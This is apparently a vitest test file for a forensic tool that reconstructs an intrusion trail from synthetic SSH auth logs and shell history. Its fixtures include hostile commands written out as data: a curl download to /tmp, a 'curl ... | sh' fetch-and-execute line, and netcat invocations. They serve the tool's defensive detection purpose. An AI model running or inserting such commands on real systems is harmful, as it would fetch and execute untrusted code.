import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../test/scenario.ts';
import { checkThing, namesAddress } from './trail/name.ts';
import { followTrail } from './trail.ts';

const start = '2026-05-19T19:00:00Z';
const says = (writer: LogWriter, user: string, command: string) => writer.say(user, `${user} [42]: ${command} [0]`, 4);

/** deploy's password is guessed on gate, a program is fetched, then on to web1. */
const gate = says(
  says(
    new LogWriter('Gate.corp.example', start)
      .life(60)
      .fails('203.0.113.77', 'deploy', 2000, 40)
      .enters('203.0.113.77', 'deploy', 2100),
    'deploy',
    'curl -o /tmp/x http://198.51.100.200:8080/x',
  ),
  'deploy',
  'ssh web1.b.example',
).leaves('deploy', 2100);
const web = (domain: string) => new LogWriter(`web1.${domain}.example`, start).life(120);
const story = await investigateFiles({
  'gate/var/log/auth.log': gate.text(),
  'a/var/log/auth.log': web('a').text(),
  'b/var/log/auth.log': web('b').text(),
});

describe('what is followed', () => {
  test('a host in other case, or by the first label of its name', () => {
    const { thing } = followTrail(story, 'Gate.corp.example');
    for (const text of ['gate.CORP.example', 'gate', 'host:GATE'])
      expect(followTrail(story, text).thing).toEqual(thing);
  });

  test('a label that two hosts share is asked back', () => {
    expect(() => followTrail(story, 'web1')).toThrow(
      expect.objectContaining({
        code: 'E_USAGE',
        message: expect.stringContaining('host:web1.a.example or host:web1.b'),
      }),
    );
    expect(() => followTrail(story, 'web1.c.example')).toThrow(expect.objectContaining({ code: 'E_NOT_FOUND' }));
  });

  test('an address that only a command names goes back to the way in', () => {
    const trail = followTrail(story, '198.51.100.200');
    expect(trail.hops.map(({ id, from }) => [id, from.address])).toContainEqual([trail.before[0], '203.0.113.77']);
    expect(trail.sessions.map(({ user }) => user)).toEqual(['deploy']);
    expect(() => followTrail(story, '198.51.100.20')).toThrow(expect.objectContaining({ code: 'E_NOT_FOUND' }));
  });

  test('what cannot be a thing is refused before anything is read', () => {
    for (const text of ['', '  ', 'user:', 'SHA256:abc', 'key:MD5:aa'])
      expect(() => checkThing(text)).toThrow(expect.objectContaining({ code: 'E_USAGE' }));
    for (const text of ['root', 'user:root', 'SHA256:abcdefgh', '::1']) expect(() => checkThing(text)).not.toThrow();
  });

  test('an error quotes no control character', () => {
    const forged = '\u001b[31mx\nspoor: all is well';
    expect(() => followTrail(story, forged)).toThrow(/^the evidence knows no [^\p{Cc}]*$/u);
  });
});

test('an address that only a command of no session names is found in what was noticed', async () => {
  const histories = { 'gate/root/.bash_history': 'curl -s http://198.51.100.201/x | sh\n' };
  const trail = followTrail(
    await investigateFiles({ 'gate/var/log/auth.log': gate.text(), ...histories }),
    '198.51.100.201',
  );
  expect(trail.findings.map(({ detail }) => detail).join()).toContain('198.51.100.201');
});

test('an address in a command is not one that only begins or ends like it', () => {
  for (const text of ['curl 192.0.2.1', '192.0.2.1:80', 'x@192.0.2.1.', '(192.0.2.1)', '192.0.2.10 192.0.2.1/x'])
    expect([text, namesAddress(text, '192.0.2.1')]).toEqual([text, true]);
  for (const text of ['192.0.2.10', '1192.0.2.1', '192.0.2.1.5', 'v.192.0.2.1'])
    expect([text, namesAddress(text, '192.0.2.1')]).toEqual([text, false]);
  expect(namesAddress('nc [2001:db8::1]:80', '2001:db8::1')).toBe(true);
  expect(namesAddress('nc 2001:db8::1f 80', '2001:db8::1')).toBe(false);
});
